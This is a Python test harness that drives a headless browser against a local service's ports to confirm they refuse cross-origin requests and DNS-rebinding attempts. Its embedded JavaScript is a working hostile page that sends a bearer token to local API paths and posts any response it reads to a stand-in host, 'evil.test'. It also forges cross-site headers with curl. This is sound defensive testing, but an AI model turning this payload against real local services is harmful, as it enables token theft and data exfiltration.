"""A page of another site in a real browser, which tries to reach the ports of a run on the machine that it is shown on.

It tries fetch in every mode, XMLHttpRequest, a beacon, EventSource, WebSocket, forms, images, scripts and frames, by
every name of this machine; and DNS rebinding: a page whose own name and port lead to the run from its second connection
on, so that it is of one origin with it. It has the run's token: a page that knew it gets nowhere either.

Each port lies behind a relay that notes what the browser sent and what was answered: a refusal, each time, with no
header that would let the page read it. Without a browser (`ASTRA_BROWSER`, or Chromium in PATH) curl sends what a
browser would, headers and all, and the row says so.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

NAMES = ("chromium-headless-shell", "chromium", "chrome-headless-shell", "google-chrome", "chromium-browser")
EVIL, REBOUND = "evil.test", "rebound.test"
PATHS = ("/state", "/lease", "/generate", "/model_info", "/weights/")
REFUSED = (400, 401, 403, 405, 421)
PAGE_S = 120.0


def browser() -> str | None:
    return os.environ.get("ASTRA_BROWSER") or next(filter(None, map(shutil.which, NAMES)), None)


@dataclass
class Seen:
    """A request that came out of the browser, and its answer."""

    request: str
    headers: dict[str, str]
    status: int
    answer: str

    @property
    def problem(self) -> str | None:
        if self.status not in REFUSED or "access-control-allow" in self.answer.lower():
            return f"{self.request}, {self.headers}: {self.answer[:200]!r}"
        return None


@dataclass
class Tried:
    by: str
    seen: list[Seen] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)

    @property
    def summary(self) -> str:
        counts: dict[int, int] = {}
        for one in self.seen:
            counts[one.status] = counts.get(one.status, 0) + 1
        return ", ".join(f"{number} x {status}" for status, number in sorted(counts.items()))


# ---- between browser and run


class Tap:
    """A port that leads to another one. The first `own` connections are answered with `page` instead: what a name that
    is rebound does."""

    def __init__(self, port: int, page: bytes = b"", own: int = 0):
        self._target, self._page, self._own = port, page, own
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=256)
        self.port: int = self._socket.getsockname()[1]
        self.seen: list[Seen] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._socket.close()

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                near, _ = self._socket.accept()
                threading.Thread(target=self._one, args=(near,), daemon=True).start()

    def _one(self, near: socket.socket) -> None:
        """One request of a connection; what follows on it would be another connection's."""
        with near, suppress(OSError):
            near.settimeout(20)
            sent = b""
            while b"\r\n\r\n" not in sent and (data := near.recv(65536)):
                sent += data
            if not sent:  # opened ahead of need
                return
            if self._own:
                self._own -= 1
                head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self._page)}\r\n"
                near.sendall(head.encode() + b"Connection: close\r\n\r\n" + self._page)
                return
            head = sent.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
            headers = dict(line.lower().split(": ", 1) for line in head[1:] if ": " in line)
            with socket.create_connection(("127.0.0.1", self._target), timeout=20) as far:
                far.sendall(sent)
                answer = b""
                while data := far.recv(65536):
                    answer += data
                    near.sendall(data)
            words = answer.split(None, 2)
            status = int(words[1]) if answer.startswith(b"HTTP/") else 0
            kept = {k: v for k, v in headers.items() if k in ("host", "origin") or k.startswith("sec-fetch")}
            self.seen.append(Seen(head[0], kept, status, answer.decode("latin-1")))


@contextmanager
def site(pages: dict[str, bytes]) -> Iterator[tuple[int, list[Any]]]:
    """(port, what was posted to it): the site of the page."""
    told: list[Any] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = pages.get(self.path.partition("?")[0])
            self.send_response(404 if page is None else 200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page or b"")

        def do_POST(self) -> None:
            told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], told
    finally:
        server.shutdown()
        server.server_close()


SCRIPT = """
const read = [], tell = where => fetch(where, {method: "POST", mode: "no-cors", body: JSON.stringify(read)});
const within = (promise, ms) => Promise.race([promise, new Promise(done => setTimeout(done, ms))]);
async function get(url, options) {
  try { const reply = await within(fetch(url, options), 4000); if (!reply) return;
        const text = reply.type == "opaque" ? "" : await within(reply.text(), 4000);
        if (reply.type != "opaque") read.push([url, options || {}, reply.status, String(text).slice(0, 200)]);
  } catch (error) {} }
async function everything(base) {
  const bearer = {"Authorization": "Bearer " + TOKEN}, json = {"Content-Type": "application/json"};
  for (const path of PATHS) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      await get(base + path, {mode}); await get(base + path, {mode, method: "POST", body: "{}"}); }
    await get(base + path, {credentials: "include", headers: bearer});
    await get(base + path, {method: "POST", headers: {...bearer, ...json}, body: "{}"});
    await get(base + path, {method: "PUT", headers: bearer, body: "x"});
    navigator.sendBeacon(base + path, "{}");
    const ask = new XMLHttpRequest(), url = base + path;
    ask.open("POST", url); ask.setRequestHeader("Authorization", bearer.Authorization);
    ask.onload = () => read.push([url, "xhr", ask.status, ask.responseText.slice(0, 200)]);
    try { ask.send("{}"); } catch (error) {}
    const events = new EventSource(url), socket = new WebSocket(url.replace("http", "ws"));
    events.onopen = () => read.push([url, "events", 200, "open"]);
    socket.onopen = () => read.push([url, "socket", 101, "open"]);
    for (const kind of ["img", "script", "iframe"]) {
      const one = document.createElement(kind); one.src = base + path + "?token=" + TOKEN; document.body.append(one); }
    const sheet = document.createElement("link");
    sheet.rel = "stylesheet"; sheet.href = url; document.body.append(sheet);
    for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
      const frame = document.createElement("iframe"), form = document.createElement("form");
      frame.name = "f" + Math.random(); document.body.append(frame); document.body.append(form);
      Object.assign(form, {action: base + path, method: "post", enctype: type, target: frame.name});
      const field = document.createElement("input");
      field.name = '{"a":"'; field.value = '"}'; form.append(field); form.submit(); }
  }
  await new Promise(done => setTimeout(done, 2500));
}
"""


def _page(token: str, site_port: int, bases: list[str], then: str = "") -> bytes:
    """What tries each of `bases`, tells the site what it could read, and goes on to the page `then`."""
    constants = f"const TOKEN = {json.dumps(token)}, PATHS = {json.dumps(PATHS)}, BASES = {json.dumps(bases)};"
    last = f"location = {json.dumps(then)};" if then else ""
    run = f"(async () => {{ for (const base of BASES) await everything(base || location.origin); \
        await tell('http://{EVIL}:{site_port}/told'); {last} }})();"
    return f"<!doctype html><body><script>{constants}{SCRIPT}{run}</script></body>".encode()


def attacked(ports: list[int], token: str) -> Tried:
    """What became of all of it, on each of the ports."""
    found = browser()
    return _simulated(ports, token) if found is None else _by_browser(found, ports, token)


def _by_browser(command: str, ports: list[int], token: str) -> Tried:
    pages: dict[str, bytes] = {}
    with site(pages) as (site_port, told), ExitStack() as stack:
        taps = [Tap(port) for port in ports]
        bases = [f"http://{name}:{tap.port}" for tap in taps for name in ("127.0.0.1", "localhost", "0.0.0.0")]
        rebound: list[Tap] = []
        then = ""
        for port in reversed(ports):
            tap = Tap(port, _page(token, site_port, [""], then), own=1)
            then = f"http://{REBOUND}:{tap.port}/"
            rebound.append(tap)
        pages["/"] = _page(token, site_port, bases, then)
        for tap in (*taps, *rebound):
            stack.callback(tap.close)
        folder = stack.enter_context(tempfile.TemporaryDirectory(ignore_cleanup_errors=True))
        words = [command, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder}", "--no-first-run",
                 f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1", "--remote-debugging-port=0",
                 f"http://{EVIL}:{site_port}/"]  # fmt: skip
        quiet: Any = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        child = subprocess.Popen(words, start_new_session=True, env={**os.environ, "HOME": folder}, **quiet)
        try:
            end = time.monotonic() + PAGE_S
            while len(told) < 1 + len(ports) and time.monotonic() < end and child.poll() is None:
                time.sleep(0.2)
        finally:
            with suppress(ProcessLookupError):
                os.killpg(child.pid, 9)
            child.wait()
        version = subprocess.run([command, "--version"], capture_output=True, text=True).stdout.strip()
        seen = [one for tap in (*taps, *rebound) for one in tap.seen]
        tried = Tried(version or command, seen, [problem for one in seen if (problem := one.problem)])
        if len(told) != 1 + len(ports):
            tried.problems.append(f"{len(told)} of {1 + len(ports)} pages came to their end")
        tried.problems += [f"no request came to {tap.port}" for tap in (*taps, *rebound) if not tap.seen]
        tried.problems += [f"the page read {one}" for page in told for one in page if one[2] not in REFUSED]
        return tried


# ---- without a browser


def _simulated(ports: list[int], token: str) -> Tried:
    """What a browser sends, with curl: by fetch, by a form, from a name that was pointed here, a preflight."""
    bearer = ("-H", f"Authorization: Bearer {token}")
    origin, cross = ("-H", f"Origin: http://{EVIL}"), ("-H", "Sec-Fetch-Site: cross-site")
    upgrade = ("-H", "Connection: Upgrade", "-H", "Upgrade: websocket", "-H", "Sec-WebSocket-Version: 13", "-H",
               "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")  # fmt: skip
    wants = ("-H", "Access-Control-Request-Method: POST", "-H", "Access-Control-Request-Headers: authorization")
    asked: list[tuple[str, ...]] = [
        ("-X", "OPTIONS", *origin, *wants),
        (*origin, *cross, *bearer), ("-H", "Origin: null", *cross, *bearer), (*cross, "-H", "Sec-Fetch-Dest: image"),
        (*origin, *cross, "-d", "a=b"), (*origin, *upgrade, *bearer), ("-H", f"Host: {REBOUND}:80", *bearer),
        ("-H", f"Host: {REBOUND}", "-H", "Sec-Fetch-Site: same-origin", *bearer, "-d", "{}"),
    ]  # fmt: skip
    tried = Tried("no browser here, simulated with curl")
    for port in ports:
        for path in PATHS:
            for words in asked:
                line = ["curl", "-s", "-i", "-m", "5", "--noproxy", "*", *words, f"http://127.0.0.1:{port}{path}"]
                said = subprocess.run(line, capture_output=True, text=True).stdout
                status = int(said.split()[1]) if said.startswith("HTTP/") else 0
                one = Seen(f"{path} {words[:2]}", {}, status, said)
                tried.seen.append(one)
                tried.problems += [one.problem] if one.problem else []
    return tried
